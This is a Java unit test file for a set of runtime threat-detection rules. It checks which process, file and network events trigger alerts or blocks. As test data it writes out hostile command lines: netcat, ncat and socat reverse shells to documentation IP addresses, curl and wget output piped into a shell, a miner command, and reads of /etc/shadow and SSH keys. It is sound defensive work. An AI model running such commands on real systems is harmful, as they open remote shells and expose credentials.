/* SPDX-License-Identifier: Apache-2.0 */
package io.ringward.rules;

import static io.ringward.rules.SampleEvent.bind;
import static io.ringward.rules.SampleEvent.connect;
import static io.ringward.rules.SampleEvent.exec;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.ringward.kernel.Operation;
import io.ringward.kernel.TokenRate;
import io.ringward.rules.event.EventType;
import io.ringward.rules.event.Fact;
import io.ringward.rules.problem.RuleException;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class StarterRulesTest {
  private static final String MEMORY = "Program run from memory";
  private static final String SERVICE_SHELL = "Shell started by a network service";
  private static final String TEMPORARY = "Program in a temporary folder connects out";
  private static final String SHELL_CONNECTS = "Shell connects to the network";
  private static final String TOOL = "Tool started by a network service";
  private static final String SETID = "Set-id program started below a network service";
  private static final String DELETED = "Program run whose file was deleted";
  private static final String HIDDEN = "Program run from shared memory or a hidden folder";
  private static final String DOWNLOAD = "Download piped into a shell";
  private static final String METADATA = "Cloud metadata service contacted";
  private static final String MINER = "Cryptocurrency miner";
  private static final String NETCAT = "Netcat gives away a shell";
  private static final String SSH = "Network service connects by SSH";
  private static final String PRIVILEGED = "Unexpected program serves on a privileged port";

  private static final String SENSITIVE = "Sensitive file read";
  private static final String STARTS = "File that starts programs changed";
  private static final String CHANGED = "System program changed";

  private static Compilation compilation;

  @BeforeAll
  static void compile() throws RuleException {
    compilation = RuleCompiler.compile(List.of(StarterRules.source()));
  }

  private static List<String> fired(SampleEvent event) {
    return Compiling.fired(compilation.rules(), event);
  }

  @Test
  void programRunFromMemory() {
    SampleEvent loader = exec("x").with(Fact.EXE_FROM_MEMFD, 1L).ancestors("python3", "sshd");
    assertEquals(List.of(MEMORY), fired(loader));
    SampleEvent fromDisk = exec("x").with(Fact.EXE_FROM_MEMFD, 0L).ancestors("python3");
    assertEquals(List.of(), fired(fromDisk));
    SampleEvent runtime = exec("6").with(Fact.EXE_FROM_MEMFD, 1L).ancestors("containerd-shim");
    assertEquals(List.of(), fired(runtime));
    SampleEvent unknown = exec("x").ancestors("python3");
    assertEquals(List.of(), fired(unknown), "nothing is known of the file");
    SampleEvent orphan = exec("x").with(Fact.EXE_FROM_MEMFD, 1L);
    assertEquals(List.of(MEMORY), fired(orphan), "an unknown parent excuses nothing");
  }

  @Test
  void shellStartedByNetworkService() {
    assertEquals(List.of(SERVICE_SHELL), fired(exec("sh").ancestors("nginx", "systemd")));
    assertEquals(List.of(SERVICE_SHELL), fired(exec("bash").ancestors("postgres")));
    assertEquals(List.of(), fired(exec("sh").ancestors("sshd", "systemd")));
    assertEquals(List.of(), fired(exec("nginx").ancestors("nginx")));
    assertEquals(List.of(), fired(exec("sh").ancestors("make", "nginx")), "only a direct child");
    assertEquals(List.of(), fired(exec("sh")));
  }

  @Test
  void temporaryProgramConnectsOut() {
    for (String folder : List.of("/tmp/", "/var/tmp/", "/dev/shm/")) {
      SampleEvent event =
          connect("x", "203.0.113.9", 443).with(Fact.PROCESS_EXE_PATH, folder + "x");
      assertEquals(List.of(TEMPORARY), fired(event));
    }
    SampleEvent ipv6 = connect("x", "2001:db8::1", 443).with(Fact.PROCESS_EXE_PATH, "/tmp/x");
    assertEquals(List.of(TEMPORARY), fired(ipv6));
    SampleEvent local = connect("x", "127.0.0.1", 80).with(Fact.PROCESS_EXE_PATH, "/tmp/x");
    assertEquals(List.of(), fired(local));
    SampleEvent installed =
        connect("x", "203.0.113.9", 443).with(Fact.PROCESS_EXE_PATH, "/usr/bin/x");
    assertEquals(List.of(), fired(installed));
    SampleEvent neighbour =
        connect("x", "203.0.113.9", 443).with(Fact.PROCESS_EXE_PATH, "/tmpfoo/x");
    assertEquals(List.of(), fired(neighbour));
    SampleEvent server = bind("x", "0.0.0.0", 8443).with(Fact.PROCESS_EXE_PATH, "/tmp/x");
    assertEquals(List.of(), fired(server));
  }

  @Test
  void shellConnectsToTheNetwork() {
    assertEquals(List.of(SHELL_CONNECTS), fired(connect("bash", "198.51.100.7", 4444)));
    assertEquals(List.of(SHELL_CONNECTS), fired(connect("sh", "2001:db8::7", 4444)));
    assertEquals(List.of(), fired(connect("bash", "127.0.0.1", 5432)));
    assertEquals(List.of(), fired(connect("bash", "::1", 5432)));
    assertEquals(List.of(), fired(connect("curl", "198.51.100.7", 443)));
    assertEquals(List.of(), fired(connect("busybox", "198.51.100.7", 443)), "it may be wget");
    SampleEvent datagrams = connect("bash", "198.51.100.7", 53).with(Fact.PROTOCOL, 17L);
    assertEquals(List.of(), fired(datagrams));
  }

  private static SampleEvent file(EventType type, String process, String path) {
    int slash = path.lastIndexOf('/');
    return SampleEvent.of(type)
        .with(Fact.PROCESS_NAME, process)
        .with(Fact.FILE_PATH, path)
        .with(Fact.FILE_DIRECTORY, path.substring(0, slash))
        .with(Fact.FILE_NAME, path.substring(slash + 1));
  }

  private static SampleEvent reads(String process, String path) {
    return file(EventType.OPEN, process, path).with(Fact.OPEN_READ, 1L).with(Fact.OPEN_WRITE, 0L);
  }

  private static SampleEvent writes(String process, String path) {
    return file(EventType.OPEN, process, path).with(Fact.OPEN_READ, 0L).with(Fact.OPEN_WRITE, 1L);
  }

  @Test
  void sensitiveFileRead() {
    assertEquals(List.of(SENSITIVE), fired(reads("cat", "/etc/shadow")));
    assertEquals(List.of(SENSITIVE), fired(reads("python3", "/root/.ssh/id_ed25519")));
    assertEquals(List.of(), fired(reads("cat", "/etc/shadow.d/x")));
    assertEquals(List.of(), fired(reads("cat", "/srv/etc/shadow")));
    assertEquals(List.of(), fired(reads("sshd", "/etc/shadow")));
    assertEquals(List.of(), fired(reads("perl", "/etc/shadow").ancestors("dpkg", "apt")));
  }

  @Test
  void fileThatStartsProgramsChanged() {
    assertEquals(List.of(STARTS), fired(writes("sh", "/etc/cron.d/job")));
    assertEquals(List.of(STARTS), fired(writes("sh", "/etc/crontab")));
    assertEquals(List.of(STARTS), fired(writes("vi", "/root/.ssh/authorized_keys")));
    assertEquals(List.of(STARTS), fired(writes("x", "/etc/ld.so.preload")));
    SampleEvent renamed =
        file(EventType.RENAME, "x", "/tmp/new").with(Fact.FILE_TARGET, "/etc/passwd");
    assertEquals(List.of(STARTS), fired(renamed));
    assertEquals(List.of(), fired(reads("sh", "/etc/cron.d/job")));
    assertEquals(List.of(), fired(writes("useradd", "/etc/passwd")));
    assertEquals(List.of(), fired(writes("sh", "/etc/cron.d/job").ancestors("dpkg")));
    assertEquals(List.of(), fired(writes("sh", "/etc/hosts")));
  }

  @Test
  void systemProgramChanged() {
    assertEquals(List.of(CHANGED), fired(writes("sh", "/usr/bin/ls")));
    assertEquals(List.of(CHANGED), fired(file(EventType.UNLINK, "rm", "/usr/sbin/auditd")));
    assertEquals(List.of(CHANGED), fired(file(EventType.CHMOD, "chmod", "/bin/bash")));
    assertEquals(List.of(), fired(reads("sh", "/usr/bin/ls")));
    assertEquals(List.of(), fired(writes("dpkg", "/usr/bin/ls.dpkg-new")));
    assertEquals(List.of(), fired(writes("cp", "/usr/bin/x").ancestors("foo.postinst", "dpkg")));
    assertEquals(List.of(), fired(writes("sh", "/usr/local/bin/mine")));
  }

  private static SampleEvent command(String line) {
    int blank = line.indexOf(' ');
    String name = blank < 0 ? line : line.substring(0, blank);
    return exec(name)
        .with(Fact.PROCESS_COMMAND_LINE, line)
        .with(Fact.PROCESS_ARGUMENTS, blank < 0 ? null : line.substring(blank + 1));
  }

  @Test
  void toolStartedByNetworkService() {
    assertEquals(List.of(TOOL), fired(exec("python3").ancestors("nginx")));
    assertEquals(List.of(TOOL), fired(exec("python3.11").ancestors("php-fpm8.2")));
    assertEquals(List.of(TOOL), fired(exec("curl").ancestors("postgres")));
    assertEquals(List.of(TOOL), fired(exec("nc").ancestors("redis-server")));
    assertEquals(List.of(TOOL), fired(exec("apt-get").ancestors("sh", "apache2")));
    assertEquals(List.of(TOOL), fired(exec("cc1").ancestors("gcc", "sh", "php-fpm8.2")));
    assertEquals(List.of(), fired(exec("perl").ancestors("exim4")), "mail servers filter so");
    assertEquals(List.of(), fired(exec("python3").ancestors("bash", "nginx")), "only a child");
    assertEquals(List.of(), fired(exec("gcc").ancestors("make", "bash", "sshd")));
    assertEquals(List.of(), fired(exec("curl").ancestors("bash")));
  }

  @Test
  void setIdProgramBelowNetworkService() {
    SampleEvent sudo = exec("sudo").with(Fact.EXE_SETID, 1L).ancestors("sh", "nginx");
    assertEquals(List.of(SETID), fired(sudo));
    assertEquals(List.of(), fired(exec("sudo").with(Fact.EXE_SETID, 1L).ancestors("bash")));
    SampleEvent plain = exec("id").with(Fact.EXE_SETID, 0L).ancestors("sh", "nginx");
    assertEquals(List.of(), fired(plain));
  }

  @Test
  void deletedProgram() {
    SampleEvent deleted = exec("x").with(Fact.EXE_DELETED, 1L).with(Fact.EXE_FROM_MEMFD, 0L);
    assertEquals(List.of(DELETED), fired(deleted));
    SampleEvent memory = exec("x").with(Fact.EXE_DELETED, 1L).with(Fact.EXE_FROM_MEMFD, 1L);
    assertEquals(List.of(MEMORY), fired(memory), "one alert is enough");
    SampleEvent runtime =
        exec("x").with(Fact.EXE_DELETED, 1L).with(Fact.EXE_FROM_MEMFD, 0L).ancestors("runc");
    assertEquals(List.of(), fired(runtime));
    SampleEvent there = exec("x").with(Fact.EXE_DELETED, 0L).with(Fact.EXE_FROM_MEMFD, 0L);
    assertEquals(List.of(), fired(there));
  }

  @Test
  void hiddenProgram() {
    for (String path :
        List.of("/dev/shm/a/b", "/tmp/.x/y", "/tmp/.x", "/var/tmp/.a", "/run/user/1000/.x")) {
      assertEquals(List.of(HIDDEN), fired(exec("x").with(Fact.PROCESS_EXE_PATH, path)), path);
    }
    for (String path :
        List.of("/tmp/conftest", "/tmp/a/.libs/x", "/tmp/.mount_AppX/AppRun", "/usr/bin/x")) {
      assertEquals(List.of(), fired(exec("x").with(Fact.PROCESS_EXE_PATH, path)), path);
    }
  }

  @Test
  void downloadPipedIntoShell() {
    assertEquals(List.of(DOWNLOAD), fired(command("sh -c curl -s http://x/y | bash")));
    assertEquals(List.of(DOWNLOAD), fired(command("bash -c wget -qO- http://x|sudo sh -s -- -y")));
    assertEquals(List.of(), fired(command("sh -c curl -s http://x/y | jq .name")));
    assertEquals(List.of(), fired(command("sh -c curl -so install.sh http://x/install.sh")));
    assertEquals(List.of(), fired(command("curl -s http://x/y")));
  }

  @Test
  void metadataService() {
    assertEquals(List.of(METADATA), fired(connect("curl", "169.254.169.254", 80)));
    assertEquals(List.of(METADATA), fired(connect("x", "fd00:ec2::254", 80)));
    assertEquals(List.of(), fired(connect("google_guest_ag", "169.254.169.254", 80)));
    SampleEvent init =
        connect("python3", "169.254.169.254", 80)
            .with(Fact.PROCESS_ARGUMENTS, "/usr/bin/cloud-init init");
    assertEquals(List.of(), fired(init));
    assertEquals(List.of(), fired(connect("curl", "169.254.1.1", 80)));
  }

  @Test
  void miner() {
    assertEquals(List.of(MINER), fired(command("kworker -o stratum+tcp://pool:1 -u x")));
    assertEquals(List.of(MINER), fired(exec("xmrig")));
    assertEquals(List.of(MINER), fired(connect("x", "198.51.100.7", 14444)));
    assertEquals(List.of(), fired(connect("x", "10.1.2.3", 3333)), "a service of one's own");
    assertEquals(List.of(), fired(connect("x", "127.0.0.1", 3333)));
    assertEquals(List.of(), fired(connect("x", "198.51.100.7", 443)));
    assertEquals(List.of(), fired(command("grep stratum notes.txt")));
  }

  @Test
  void netcatGivesAwayAShell() {
    for (String line :
        List.of(
            "nc -e /bin/sh 198.51.100.7 4444",
            "nc.traditional -lvp 4444 -e /bin/bash",
            "ncat --exec /bin/sh 198.51.100.7 1",
            "ncat -l 4444 --sh-exec bash",
            "socat TCP:198.51.100.7:4444 EXEC:/bin/sh,pty",
            "socat tcp-listen:1 system:id")) {
      assertEquals(List.of(NETCAT), fired(command(line)), line);
    }
    for (String line :
        List.of("nc -z 10.0.0.1 22", "nc -lk 9000", "socat TCP:a:1 STDIO", "ncdu -e /tmp")) {
      assertEquals(List.of(), fired(command(line)), line);
    }
  }

  @Test
  void networkServiceConnectsBySsh() {
    assertEquals(List.of(SSH), fired(connect("ssh", "10.0.0.7", 22).ancestors("sh", "nginx")));
    assertEquals(List.of(SSH), fired(connect("nginx", "10.0.0.7", 22)));
    assertEquals(List.of(), fired(connect("ssh", "10.0.0.7", 22).ancestors("bash", "sshd")));
    assertEquals(List.of(), fired(connect("nginx", "127.0.0.1", 22)));
    assertEquals(List.of(), fired(connect("nginx", "10.0.0.7", 8080)));
  }

  @Test
  void privilegedPort() {
    SampleEvent dropped = bind("x", "0.0.0.0", 443).with(Fact.PROCESS_EXE_PATH, "/var/tmp/x");
    assertEquals(List.of(PRIVILEGED), fired(dropped));
    assertEquals(List.of(PRIVILEGED), fired(bind("nc", "::", 80)));
    assertEquals(List.of(), fired(bind("nc", "0.0.0.0", 8080)));
    assertEquals(List.of(), fired(bind("nc", "127.0.0.1", 80)));
    SampleEvent installed =
        bind("nginx", "0.0.0.0", 443).with(Fact.PROCESS_EXE_PATH, "/usr/sbin/nginx");
    assertEquals(List.of(), fired(installed));
    SampleEvent any = bind("x", "0.0.0.0", 0).with(Fact.PROCESS_EXE_PATH, "/home/a/x");
    assertEquals(List.of(), fired(any), "the kernel chooses a port");
  }

  @Test
  void severalRulesFireForOneEvent() {
    SampleEvent event = connect("bash", "198.51.100.7", 1).with(Fact.PROCESS_EXE_PATH, "/tmp/bash");
    assertEquals(List.of(TEMPORARY, SHELL_CONNECTS), fired(event));
    SampleEvent memory = exec("sh").with(Fact.EXE_FROM_MEMFD, 1L).ancestors("nginx");
    assertEquals(List.of(MEMORY, SERVICE_SHELL), fired(memory));
  }

  @Test
  void quietTypesOfEvents() {
    for (EventType type : List.of(EventType.CLONE, EventType.PROCEXIT)) {
      assertEquals(List.of(), compilation.rules().candidates(type), type.toString());
    }
  }

  @Test
  void everyRuleNamesATacticAndATechnique() {
    assertEquals(24, compilation.rules().rules().size());
    for (Rule rule : compilation.rules().rules()) {
      assertTrue(rule.tags().stream().anyMatch(tag -> tag.startsWith("mitre_")), rule.name());
      assertTrue(
          rule.tags().stream().anyMatch(tag -> tag.matches("T[0-9]{4}(\\.[0-9]{3})?")),
          rule.name());
    }
    assertEquals(List.of(), compilation.report().notes());
  }

  @Test
  void actionsAreConservative() {
    Map<String, RuleAction> expected =
        Map.of(
            MEMORY,
            new RuleAction.Alert(),
            SERVICE_SHELL,
            new RuleAction.Alert(),
            TEMPORARY,
            new RuleAction.Throttle(
                Duration.ofMinutes(10), Set.of(Operation.CONNECT), new TokenRate(1, 1)),
            SHELL_CONNECTS,
            new RuleAction.Block(Duration.ofMinutes(5), Set.of(Operation.CONNECT)),
            NETCAT,
            new RuleAction.Block(Duration.ofMinutes(5), Set.of(Operation.CONNECT, Operation.BIND)));
    for (Rule rule : compilation.rules().rules()) {
      RuleAction action = expected.getOrDefault(rule.name(), new RuleAction.Alert());
      assertEquals(action, rule.action(), rule.name());
    }
  }

  @Test
  void userListsCanBeReplaced() throws RuleException {
    RuleSource own =
        RuleSource.text(
            "own.yaml",
            """
            - macro: user_known_service_shell
              condition: proc.cmdline startswith "sh -c /usr/local/bin/rotate"
            """);
    Compilation changed = RuleCompiler.compile(List.of(StarterRules.source(), own));
    SampleEvent rotation =
        exec("sh")
            .with(Fact.PROCESS_COMMAND_LINE, "sh -c /usr/local/bin/rotate nginx")
            .ancestors("nginx");
    assertEquals(List.of(SERVICE_SHELL), fired(rotation));
    assertEquals(List.of(), Compiling.fired(changed.rules(), rotation));
    assertEquals(1, changed.report().notes().size());
  }

  @Test
  void theFileCanBeShown() throws IOException {
    try (InputStream in = StarterRules.open()) {
      assertTrue(new String(in.readAllBytes(), StandardCharsets.UTF_8).contains(MEMORY));
    }
  }
}
